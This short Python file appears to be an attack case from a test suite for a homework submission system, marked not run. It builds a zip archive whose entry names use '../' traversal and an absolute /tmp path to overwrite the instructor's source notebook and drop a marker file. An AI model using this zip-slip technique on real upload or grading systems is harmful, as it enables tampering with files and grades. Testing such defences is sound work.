# attack: a zip archive beside nothing, with names that climb
# assignment: hw
# kind: folder
# status: not_run
# score: 0
import zipfile


def submit(folder, released):
    with zipfile.ZipFile(folder / "hw.zip", "w") as archive:
        archive.writestr("../../../source/hw/hw.ipynb", "{}")
        archive.writestr("/tmp/@MARK@", "x")
